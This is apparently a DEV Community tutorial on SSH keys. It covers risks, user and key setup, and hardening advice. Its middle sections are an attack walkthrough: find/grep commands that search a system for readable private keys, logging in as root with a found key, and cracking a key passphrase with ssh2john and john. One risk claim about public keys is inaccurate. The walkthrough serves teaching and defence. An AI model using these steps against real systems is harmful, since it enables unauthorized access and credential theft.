SSH keys explained - DEV Community

SSH keys, or Secure Shell keys, are cryptographic keys used for secure communication over an unsecured network. They provide a secure method for authentication between a client and a server, allowing users to access and manage remote systems securely.

Security Risks:

Key Theft:

  • If an unauthorized person gains access to your private SSH key, they can impersonate you and gain unauthorized access to systems you have access to.

Weak Key Generation:

  • Poorly generated keys may be susceptible to brute-force attacks. It's crucial to use a strong, random key generation process.

Key Spoofing:

  • Attackers might attempt to intercept or manipulate the communication to present a false public key, leading to potential security breaches.

Unauthorized Key Access:

  • If an attacker gains access to an authorized user's public key, they can add it to their own authorized_keys file and gain access to systems.

Key Exposure:

  • Storing private keys on insecure devices or sharing them improperly increases the risk of exposure.

Example of User & key creation

User Creation

1. Use the following command to add a new user (replace username with the desired username):• sudo useradd -m user1

The -m option ensures that a home directory is created for the user.

2. Set a password for the new user:

  • sudo passwd user1

Follow the prompts to enter and confirm the password.

RSA SSH keys creation

1. Now, you can add an RSA SSH certificate for the user. You can do this by creating a .ssh directory in the user's home directory and adding an authorized_keys file to it.

  • mkdir -p /home/user1/.ssh
  • touch /home/user1/.ssh/authorized_keys

2. Set the appropriate permissions for the.ssh directory and the authorized_keys file:

  • chmod 700 /home/user1/.ssh
  • chmod 600 /home/user1/.ssh/authorized_keys
  • (OPTIONAL) chown -R username:username /home/username/.ssh

3. Generate the key pair. This command will create a new RSA key pair (private and public keys) in the default location (~/.ssh/id_rsa for the private key and ~/.ssh/ for the public key).

  • ssh-keygen -t rsa -b 2048

4. Add this keys, to the authorized_keys file

  • ssh-copy-id username@hostname
  • ssh-copy-id user1@Vk9-Security

Identifying keys

1. You can search for files that are readable, and contain the word “PRIVATE KEY”, then list the file. You can set up the starting point where you want

  • find / -type f -readable -exec grep -q "PRIVATE KEY" {} \; -exec sh-c 'ls -l "$1"' sh {} \; 2> /dev/null
  • find /home -type f -readable -exec grep -q "PRIVATE KEY" {} \; -exec sh -c 'ls -l "$1"' sh {} \; 2> /dev/null


1. You can also, find some keys that can be read in .ssh files

  • ./

Exploiting READ permission (Without password)

1. Sometimes users make backups of important files but fail to secure them with the correct permissions, or even, the original files were not secured properly, allowing other users to read the contents of SSH keys.

  • cat root_key

2. You can copy the contents of this file into your computer, and assign the permissions 600 using chmod command• vi id_rsa
  • chmod 600 id_rsa
  • ls -l
  • cat id_rsa

3. Using file we can make sure if this a private key, also the line “BEGIN RSA PRIVATE KEY” says it all

  • file id_rsa

4. (OPTIONAL) This key seems to be encoded in base64 format, so we try to decoded, sometimes we can find the user this key belongs to

  • echo """<key>""" | base64 -dNote: This screenshot is from another example

5. Now, Knowing the user this belongs to, we can try to use this key to authenticate

  • ssh -i id_rsa root@
  • ssh -i id_rsa -oPubkeyAcceptedKeyTypes=+ssh-rsa -oHostKeyAlgorithms=+ssh-rsa root@

Note: I had to use (-oPubkeyAcceptedKeyTypes=+ssh-rsa -oHostKeyAlgorithms=+ssh-rsa) because this server was not accepting the authentication offer

Exploiting READ permission (password protected)

1. Same steps a before, just when you try to use the certificate, SSH will ask for the private key password, which we don’t know

  • ssh user1@ -i id_rsa

2. We need to crack the private key password, for this we can use ssh2john, to prepare the file to be cracked by john• ssh2john id_rsa > new_id_rsa
  • cat new_id_rsa

3. Now using john, we can crack the password

  • john --wordlist=/usr/share/wordlists/rockyou.txt new_id_rsa

Note: So here we have our password

4. Now we can try this password when SSH asks for the key pass phrase

  • ssh user1@ -i id_rsa

5. (OPTIONAL) Doing again the decode with base64 string we can have anidea of what type of encryption is used

  • echo """<key>""" | base64 -d


Key Management:

  • Regularly audit and manage SSH keys. Removeunused or unnecessary keys from authorized_keys files.

Strong Key Generation:

  • Use robust, industry-standard algorithms like RSA or ECDSA and ensure sufficiently long key lengths.

Passphrase Protection:

  • Assign passphrases to private keys to add an extra layer of security. This passphrase encrypts the private key and must be entered before the key can beused.

Key Rotation:

  • Periodically rotate SSH keys, especially if someone with access leaves the team or if there's asuspicion of compromise.Limiting Key Access:

  • Restrict the use of keys to specific IP addresses, commands, or users through the SSH configuration.

Multi-Factor Authentication (MFA):

  • Combine SSH key authentication with MFA toadd an extra layer of security.

Secure Storage:

  • Store private keys securely, using hardware tokens or encrypted containers.

Regular Audits:

  • Conduct regular security audits to identify and rectify any vulnerabilities.


  • Implement logging and monitoring to detectand respond to suspicious activities.